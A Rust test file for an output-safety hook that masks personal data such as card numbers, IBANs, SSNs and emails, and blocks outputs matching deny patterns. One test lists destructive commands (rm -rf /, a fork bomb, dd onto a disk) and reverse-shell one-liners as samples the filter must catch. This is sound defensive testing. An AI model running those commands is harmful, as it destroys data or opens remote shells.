//! Tests which texts are masked and which stay, from tables, and the hook on the in-memory host of
//! the SDK.

use crate::content_safety::{
    __rind_hook_output_delta as output_delta, __rind_hook_pre_output as pre_output,
};
use crate::mask::{mask_streamed_text, mask_text};
use crate::settings::{PersonalDataKind, SafetySettings};
use rind_sdk::prelude::*;
use rind_sdk::serde_json::{Value, json};
use rind_sdk::testing;

const ALL: [PersonalDataKind; 6] = [
    PersonalDataKind::Phone,
    PersonalDataKind::Email,
    PersonalDataKind::Ipv4,
    PersonalDataKind::Ssn,
    PersonalDataKind::Iban,
    PersonalDataKind::Card,
];

fn mask_data_kinds(text: &str, kinds: &[PersonalDataKind], allow: &[&str]) -> Option<String> {
    let settings = SafetySettings {
        mask: kinds.to_vec(),
        block: Vec::new(),
        deny: Vec::new(),
        allow: allow.iter().map(|text| (*text).to_owned()).collect(),
    };
    mask_text(text, &settings).map(|masked| masked.text)
}

fn mask_all_kinds(text: &str) -> Option<String> {
    mask_data_kinds(text, &ALL, &[])
}

#[test]
fn personal_data_is_masked() {
    for (text, expected) in [
        ("pay 4111111111111111.", "pay [card masked]."),
        ("4111 1111 1111 1111", "[card masked]"),
        ("card=5500-0055-5555-5559,", "card=[card masked],"),
        ("(378282246310005)", "([card masked])"),
        ("3782 822463 10005", "[card masked]"),
        ("30569309025904", "[card masked]"),
        ("3056 930902 5904", "[card masked]"),
        ("卡号4111111111111111。", "卡号[card masked]。"),
        (
            "6011000990139424 3530111333300000",
            "[card masked] [card masked]",
        ),
        ("DE89370400440532013000", "[iban masked]"),
        (
            "to GB82 WEST 1234 5698 7654 32 today",
            "to [iban masked] today",
        ),
        ("NO9386011117947\n", "[iban masked]\n"),
        ("FR1420041010050500013M02606", "[iban masked]"),
        ("SSN: 219-45-6789!", "SSN: [ssn masked]!"),
        (
            "mail jane.doe+x@mail.example.co.uk.",
            "mail [email masked].",
        ),
        ("<a@b.io>", "<[email masked]>"),
        ("mailto:jane@example.com", "mailto:[email masked]"),
        ("call +49 30 1234-5678, now", "call [phone masked], now"),
        ("+1 (415) 555-2671.", "[phone masked]."),
        ("+442071838750", "[phone masked]"),
        ("+49 (0)30 123456", "[phone masked]"),
        ("from 192.168.7.20:8080", "from [ipv4 masked]:8080"),
        ("203.0.113.9.", "[ipv4 masked]."),
        (
            "a@example.com, 203.0.113.9 and ü 4111111111111111 ü",
            "[email masked], [ipv4 masked] and ü [card masked] ü",
        ),
    ] {
        assert_eq!(mask_all_kinds(text).as_deref(), Some(expected), "{text}");
    }
}

#[test]
fn text_that_only_resembles_personal_data_is_not_masked() {
    for text in [
        "",
        "plain words, 12 of them",
        // Cards: wrong check digit, unknown issuer, part of something longer.
        "4111111111111112",
        "4111 1111 1111 1112",
        "4111 1111-1111 1111",
        "1234567890123452",
        "1700000000000000003",
        "0.4111111111111111",
        "x4111111111111111",
        "4111111111111111f",
        "id_4111111111111111",
        "41111111111111110000",
        "/orders/4111111111111111",
        "0x4111111111111111",
        "#4111111111111111",
        "4006381333931",
        // Hashes, ids, versions, times, code.
        "356a192b7913b04c54574d18c28d46e6395428ab",
        "4111111111111111111111111111111111111111",
        "commit 4242424242424242424242424242424242424242",
        "41111111-1111-1111-1111-111111111111",
        "f47ac10b-58cc-4372-a567-0e02b2c3d479",
        "00000000-4111-1111-1111-111111111111",
        "v1.2.3.4 and 1.2.3 and 10.0.19041.1",
        "version 1.2.3.4",
        "version = \"1.2.3.4\"",
        "requests==2.31.0.1",
        "1.2.3.4-beta",
        "1.2.3.4.5",
        "127.0.0.1:80 0.0.0.0 255.255.255.0",
        "2026-11-22T02:15:13.123456789Z",
        "const MAX: u64 = 18446744073709551615;",
        "let mask = 0xDEADBEEFDEADBEEF;",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        // IBANs with a wrong checksum, an unknown country, or too many digits.
        "DE89370400440532013001",
        "ZZ89370400440532013000",
        "DE893704004405320130001",
        "XDE89370400440532013000",
        "DE89 3704 0044 0532 013",
        // Not social security numbers: areas that are not assigned, dates, and parts of longer
        // numbers.
        "000-12-3456 666-12-3456 900-12-3456 123-00-4567 123-45-0000",
        "123-45-67890 1123-45-6789 123-45-6789-1",
        "123 45 6789",
        "2024-01-2024",
        // Addresses.
        "git@github.com:rind/rind.git",
        "@types/node@20.1.0",
        "serde@1.0.200",
        "icon@2x.png getty@tty1.service",
        "user@localhost",
        "a@b",
        "x@-y.com",
        // Phones: no code, too short, sums.
        "+0123456789",
        "+1234567",
        "a+4420718387501",
        "1 + 2",
        "+1234567890123456789",
        "030 1234567",
    ] {
        assert_eq!(mask_all_kinds(text), None, "{text}");
    }
}

#[test]
fn only_configured_kinds_are_masked_and_allowed_texts_are_not() {
    let text = "a@example.com 4111111111111111";
    assert_eq!(mask_data_kinds(text, &[], &[]), None);
    assert_eq!(
        mask_data_kinds(text, &[PersonalDataKind::Card], &[]).unwrap(),
        "a@example.com [card masked]"
    );
    assert_eq!(
        mask_data_kinds(text, &ALL, &["4111111111111111"]).unwrap(),
        "[email masked] 4111111111111111"
    );
    assert_eq!(
        mask_data_kinds("a@example.com", &ALL, &["a@example.com"]),
        None
    );
    assert!(mask_data_kinds("ba@example.com", &ALL, &["a@example.com"]).is_some());
}

#[test]
fn a_long_text_with_many_near_misses_is_examined_in_time() {
    let text = "a.b+4111 1111 1111 1112 DE89 3704 a@b+49 1.2.3 ".repeat(20_000);
    let started = std::time::Instant::now();
    let _ = mask_all_kinds(&text);
    assert!(started.elapsed().as_secs() < 5);
    let _ = mask_all_kinds(&"a".repeat(1 << 20));
    let _ = mask_all_kinds(&"+1 ".repeat(1 << 18));
    assert!(started.elapsed().as_secs() < 10);
}

fn run_pre_output(changes: Value, output: &str) -> Result<OutputOutcome, Error> {
    testing::reset();
    let mut settings = json!({"mask": ["card"], "block": [], "deny": [], "allow": []});
    for (key, value) in changes.as_object().into_iter().flatten() {
        settings[key] = value.clone();
    }
    testing::set_config(settings);
    pre_output(output.to_owned())
}

#[test]
fn a_clean_output_is_left_as_it_is() {
    assert_eq!(
        run_pre_output(json!({}), "fine").unwrap(),
        OutputOutcome::default()
    );
}

#[test]
fn the_log_contains_the_number_of_masked_texts_but_no_text() {
    let outcome = run_pre_output(json!({}), "4111111111111111 and 4111111111111111").unwrap();
    assert_eq!(
        outcome.text.as_deref(),
        Some("[card masked] and [card masked]")
    );
    assert!(
        matches!(&outcome.effects[..], [Effect::Log(line)] if line.text == "2 [card masked]"),
        "{outcome:?}"
    );
}

#[test]
fn a_deny_pattern_holds_the_output_back_without_repeating_it() {
    let deny = json!({"deny": ["blue", "(?i)project\\s+falcon"]});
    let outcome = run_pre_output(deny.clone(), "about Project  Falcon").unwrap();
    assert_eq!(
        outcome.block.as_deref(),
        Some("it matches deny pattern 2 of the settings")
    );
    assert_eq!(outcome.text, None);
    assert_eq!(
        run_pre_output(deny, "about falcons").unwrap(),
        OutputOutcome::default()
    );
}

#[test]
fn an_invalid_pattern_is_an_error_with_its_number() {
    let error = run_pre_output(json!({"deny": ["fine", "(open"]}), "x").unwrap_err();
    assert!(error.message().contains("deny pattern 2"), "{error}");
}

#[test]
fn patterns_that_backtracking_would_never_finish_are_matched_in_time() {
    let started = std::time::Instant::now();
    let text = "a".repeat(50_000);
    let outcome = run_pre_output(json!({"deny": ["(a+)+$x", "(a|aa)*b"]}), &text).unwrap();
    assert_eq!(outcome, OutputOutcome::default());
    assert!(started.elapsed().as_secs() < 5);
}

#[test]
fn configured_categories_hold_back_matching_outputs() {
    let table: &[(&str, &[&str], &[&str])] = &[
        (
            "destructive-command",
            &[
                "rm -rf /",
                "sudo rm -rf --no-preserve-root / # x",
                "`rm -fr ~`",
                "rm -r -f /*",
                "mkfs.ext4 -F /dev/sda1",
                "dd if=/dev/zero of=/dev/nvme0n1 bs=1M",
                ":(){ :|:& };:",
            ],
            &[
                "rm -rf target",
                "rm -rf /tmp/build",
                "rm -rf ~/.cache/x",
                "rm /",
                "dd if=a of=disk.img",
                "mkfs.ext4 disk.img",
            ],
        ),
        (
            "private-key",
            &[
                "-----BEGIN PRIVATE KEY-----",
                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3",
                "-----BEGIN PGP PRIVATE KEY BLOCK-----",
            ],
            &["-----BEGIN PUBLIC KEY-----", "-----BEGIN CERTIFICATE-----"],
        ),
        (
            "reverse-shell",
            &[
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "nc -e /bin/sh 10.0.0.1 4444",
                "ncat --exec /bin/bash 10.0.0.1 1",
            ],
            &["nc -zv localhost 80", "ls /dev/tcp", "bash -c ls"],
        ),
    ];
    for (category, held_back, fine) in table {
        let on = json!({"block": [category]});
        for text in *held_back {
            let outcome = run_pre_output(on.clone(), text).unwrap();
            let reason = outcome
                .block
                .unwrap_or_else(|| panic!("{category}: {text}"));
            assert!(reason.contains(category), "{reason}");
            assert_eq!(
                run_pre_output(json!({}), text).unwrap().block,
                None,
                "{text}"
            );
        }
        for text in *fine {
            assert_eq!(
                run_pre_output(on.clone(), text).unwrap().block,
                None,
                "{text}"
            );
        }
    }
}

/// Returns the text that is shown when these pieces are streamed.
fn stream_pieces(pieces: &[&str], settings: &SafetySettings) -> String {
    let (mut shown, mut pending) = (String::new(), String::new());
    for (n, piece) in pieces.iter().enumerate() {
        pending.push_str(piece);
        let is_last = n + 1 == pieces.len();
        let whole = format!("{shown}{pending}");
        let settled = mask_streamed_text(&whole, shown.len(), is_last, settings);
        let text = settled.text.unwrap_or(pending);
        let (now, kept) = text.split_at(text.len() - settled.kept);
        shown.push_str(now);
        pending = kept.to_owned();
    }
    assert_eq!(pending, "");
    shown
}

#[test]
fn a_streamed_text_is_masked_like_the_complete_text() {
    let texts = [
        "pay 4111111111111111.",
        "4111 1111 1111 1111",
        "no 4111 1111 1111 1112 and 4111-1111-1111-1111-5",
        "卡号4111111111111111。",
        "6011000990139424 3530111333300000 1 2 3 4",
        "hash 9f4111111111111111 and v1.4111111111111111",
        "to GB82 WEST 1234 5698 7654 32 today, or DE89370400440532013000",
        "SSN: 219-45-6789! but not 219-45-6789-1",
        "mail jane.doe+x@mail.example.co.uk. or git@example.com:path",
        "call +1 (650) 253-0000 or 10.1.2.3, version 10.1.2.3",
        "a very long number 411111111111111141111111111111114111111111111111 and an é",
    ];
    for kinds in [
        &ALL[..],
        &[
            PersonalDataKind::Card,
            PersonalDataKind::Iban,
            PersonalDataKind::Ssn,
        ],
    ] {
        let settings = SafetySettings {
            mask: kinds.to_vec(),
            block: Vec::new(),
            deny: Vec::new(),
            allow: Vec::new(),
        };
        for text in texts {
            let expected = mask_text(text, &settings).map_or_else(|| text.to_owned(), |m| m.text);
            let places: Vec<usize> = text.char_indices().map(|(at, _)| at).collect();
            for first in &places {
                for second in places.iter().filter(|second| *second >= first) {
                    let pieces = [&text[..*first], &text[*first..*second], &text[*second..]];
                    assert_eq!(stream_pieces(&pieces, &settings), expected, "{pieces:?}");
                }
            }
            let letters: Vec<String> = text.chars().map(String::from).collect();
            let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
            assert_eq!(stream_pieces(&letters, &settings), expected);
        }
    }
}

#[test]
fn with_a_deny_pattern_nothing_is_shown_before_the_output_is_complete() {
    let delta = |text: &str, is_last| {
        let delta = TextDelta {
            before: String::new(),
            text: text.to_owned(),
            is_last,
        };
        output_delta(delta)
    };
    testing::reset();
    testing::set_config(
        json!({"mask": ["card"], "block": [], "deny": ["(?s)one.*two"], "allow": []}),
    );
    assert_eq!(delta("one and ", false).unwrap().keep, 8);
    assert!(delta("one and two", true).unwrap().stop.is_some());
    assert_eq!(
        delta("one and three", true).unwrap(),
        DeltaOutcome::default()
    );
    testing::set_config(json!({"mask": ["card"], "block": [], "deny": ["("], "allow": []}));
    assert!(delta("one", true).is_err());
}
